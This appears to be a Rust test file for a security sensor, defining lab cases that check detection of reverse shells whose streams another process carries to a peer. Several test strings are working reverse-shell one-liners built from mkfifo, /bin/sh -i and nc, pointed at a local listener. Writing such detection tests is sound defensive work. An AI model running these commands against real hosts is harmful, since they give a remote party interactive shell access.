//! Shells whose streams another process carries to the peer.

use std::fs;

use anyhow::Result;
use sensor_tests::{
    deadline::wait_for,
    lab::{Lab, REVERSE},
    peer::{Listener, Peer, V4},
    process::Proc,
};

use super::{Case, start};

pub const CASES: &[Case] = &[
    ("carried::mkfifo_nc", |lab| {
        let peer = called(lab, "mkfifo f; cat f | /bin/sh -i 2>&1 | /bin/nc 127.0.0.1 $P >f")?;
        lab.carried(peer, REVERSE)
    }),
    ("carried::unnamed_pipes", |lab| {
        let peer = called(lab, "mkfifo f; /bin/sh <f 2>&1 | cat | /bin/nc 127.0.0.1 $P >f")?;
        lab.carried(peer, REVERSE)
    }),
    ("carried::terminal", |lab| {
        let listener = Listener::tcp(V4)?;
        let address = format!("127.0.0.1:{}", listener.port()?);
        start(lab, &["terminal", &address, "/bin/sh", "-i"])?;
        lab.carried(listener.accept()?, REVERSE)
    }),
    ("carried::connected_later", connected_later),
];

/// Has the shell run `script`, which connects to $P, and gives the connection.
fn called(lab: &Lab<'_>, script: &str) -> Result<Peer> {
    let listener = Listener::tcp(V4)?;
    run(lab, &listener, script)?;
    listener.accept()
}

fn run(lab: &Lab<'_>, listener: &Listener, script: &str) -> Result<()> {
    let mut shell = lab.command("/bin/sh")?;
    lab.spawn(shell.args(["-c", script]).env("P", listener.port()?.to_string()))?;
    Ok(())
}

/// Nobody has a connection when the shell is executed.
fn connected_later(lab: &Lab<'_>) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    let script = "mkfifo f g; exec 7<>f 8<>g; /bin/sh -i <f >g 2>&1 7<&- 8<&- & echo $! >pid; \
        until [ -e go ]; do sleep 0.1; done; exec /bin/nc 127.0.0.1 $P <g >f 7<&- 8<&-";
    run(lab, &listener, script)?;
    wait_for("a shell that nobody has called yet", || {
        let pid = fs::read_to_string(lab.path("pid")).unwrap_or_default();
        // Not written to its end, perhaps.
        let Ok(pid) = pid.trim().parse() else { return Ok(None) };
        Ok((Proc::of(pid)?.args == ["/bin/sh", "-i"]).then_some(()))
    })?;
    fs::write(lab.path("go"), "")?;
    lab.carried(listener.accept()?, REVERSE)
}
